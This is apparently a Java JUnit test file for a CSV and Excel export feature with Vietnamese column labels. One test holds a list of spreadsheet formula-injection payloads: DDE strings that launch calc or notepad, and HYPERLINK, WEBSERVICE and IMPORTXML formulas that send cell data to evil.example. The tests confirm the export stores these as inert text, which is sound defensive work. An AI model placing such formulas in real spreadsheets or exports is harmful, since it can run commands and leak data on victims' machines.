package nepsong.progress.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import nepsong.progress.Column;
import nepsong.progress.Column.Kind;
import nepsong.progress.Listing;
import nepsong.progress.Row;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;

class FilesTest {

    private static final Listing LISTING = new Listing(
            "rows",
            "Các dòng: thử",
            "Mỗi dòng là một phép thử.",
            List.of(
                    new Column("name", "Đơn vị", Kind.TEXT, Map.of("x", "Đã xong"), null, null),
                    new Column("note", "Nhận xét", Kind.NOTE, Map.of(), null, null),
                    new Column("score", "Điểm", Kind.SCORE, Map.of(), null, null),
                    new Column("moved", "Thay đổi", Kind.CHANGE, Map.of(), null, null),
                    new Column("day", "Ngày", Kind.DAY, Map.of(), null, null),
                    new Column("moment", "Lúc", Kind.MOMENT, Map.of(), null, null),
                    new Column("secret", "", Kind.TEXT, Map.of(), null, null)),
            "",
            "name");

    private static Row row(Object... values) {
        return new Row(LISTING, Arrays.asList(values));
    }

    private static final Row FULL = row(
            "x",
            "Dòng \"một\",\nhai; ba",
            new BigDecimal("-3.50"),
            -2L,
            LocalDate.of(2023, 6, 5),
            Instant.parse("2023-06-05T10:00:00Z"),
            "hidden");

    @Test
    void aCsvHasAByteOrderMarkAndQuotesEverything() throws IOException {
        String csv = csv(FULL);

        assertThat(csv).startsWith("\uFEFF\"Đơn vị\",\"Nhận xét\",\"Điểm\",\"Thay đổi\",\"Ngày\",\"Lúc\"\r\n");
        CSVRecord read = read(csv).get(1);
        assertThat(read.toList())
                .containsExactly("Đã xong", "Dòng \"một\",\nhai; ba", "-3,50", "-2", "05/06/2023", "17:00 05/06/2023");
        assertThat(csv).doesNotContain("hidden");
    }

    private static final List<String> FORMULA_STARTS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠");

    private static final List<String> FORMULAS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
            "SUM(A1:A9)*cmd|'/C notepad'!A1",
            "WEBSERVICE(\"http://evil.example/\")",
            "IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "2+5\",\"=1+1",
            "1;=1+1",
            "@SUM(1)\r\n=1+1");

    /** Texts that a spreadsheet would take for formulas. */
    static List<String> formulas() {
        return FORMULA_STARTS.stream()
                .flatMap(start -> FORMULAS.stream().map(formula -> start + formula))
                .toList();
    }

    static boolean looksLikeAFormula(String text) {
        return FORMULA_STARTS.stream().anyMatch(start -> text.startsWith(start.substring(0, 1)));
    }

    /** Written and read back: text everywhere, and what a person typed behind the apostrophe. */
    @Test
    void oneHundredTextsThatLookLikeFormulasAreTextsAndLoseNothing() throws IOException {
        List<String> texts = formulas();
        assertThat(texts).hasSizeGreaterThanOrEqualTo(100).doesNotHaveDuplicates();
        Row[] rows = texts.stream()
                .map(text -> row(text, text, null, null, null, null, null))
                .toArray(Row[]::new);

        List<CSVRecord> lines = read(csv(rows));
        assertThat(lines).hasSize(texts.size() + 1);
        try (ReadableWorkbook book = book(rows)) {
            List<org.dhatim.fastexcel.reader.Row> sheet = book.getFirstSheet().read();
            for (int i = 0; i < texts.size(); i++) {
                String text = texts.get(i);
                for (int column = 0; column < 2; column++) {
                    assertThat(lines.get(i + 1).get(column)).isEqualTo("'" + text);
                    Cell cell = sheet.get(i + 1).getCell(column);
                    assertThat(cell.getType()).as(text).isEqualTo(CellType.STRING);
                    assertThat(cell.getFormula()).as(text).isNull();
                    assertThat(cell.asString()).isEqualTo(text.replace("\r", ""));
                }
            }
        }
    }

    @Test
    void aWorkbooksCellsHaveTypes() throws IOException {
        try (ReadableWorkbook book = book(FULL)) {
            List<Cell> cells = book.getFirstSheet().read().get(1).stream().toList();
            assertThat(cells.get(0).asString()).isEqualTo("Đã xong");
            assertThat(cells.get(1).asString()).isEqualTo("Dòng \"một\",\nhai; ba");
            assertThat(cells.get(2).asNumber()).isEqualByComparingTo("-3.5");
            assertThat(cells.get(3).asNumber()).isEqualByComparingTo("-2");
            assertThat(cells.get(4).asDate().toLocalDate()).isEqualTo(LocalDate.of(2023, 6, 5));
            assertThat(cells.get(5).asDate()).isEqualTo(LocalDate.of(2023, 6, 5).atTime(17, 0));
            assertThat(cells).hasSize(6);
        }
    }

    @Test
    void aLongWorkbookIsWrittenWhileItIsRead() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int early;
        try (ExcelSheet sheet = new ExcelSheet(out, LISTING, UnaryOperator.identity())) {
            for (int i = 0; i < 20_000; i++) {
                sheet.add(FULL);
            }
            early = out.size();
        }
        assertThat(early).isPositive();
        assertThat(out.size()).isGreaterThan(early);
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(book.getFirstSheet().openStream().count()).isEqualTo(20_001);
        }
    }

    @Test
    void aCharacterThatAWorkbookCannotHoldIsLeftOut() throws IOException {
        try (ReadableWorkbook book = book(row("a\u0000b", "x".repeat(40_000), null, null, null, null, null))) {
            List<Cell> cells = book.getFirstSheet().read().get(1).stream().toList();
            assertThat(cells.get(0).asString()).isEqualTo("ab");
            assertThat(cells.get(1).asString()).hasSize(32_767);
        }
    }

    private static String csv(Row... rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (CsvSheet sheet = new CsvSheet(out, LISTING, UnaryOperator.identity())) {
            Arrays.stream(rows).forEach(sheet::add);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static List<CSVRecord> read(String csv) throws IOException {
        return CSVFormat.RFC4180.parse(new StringReader(csv.substring(1))).getRecords();
    }

    private static ReadableWorkbook book(Row... rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ExcelSheet sheet = new ExcelSheet(out, LISTING, UnaryOperator.identity())) {
            Arrays.stream(rows).forEach(sheet::add);
        }
        return new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()));
    }
}
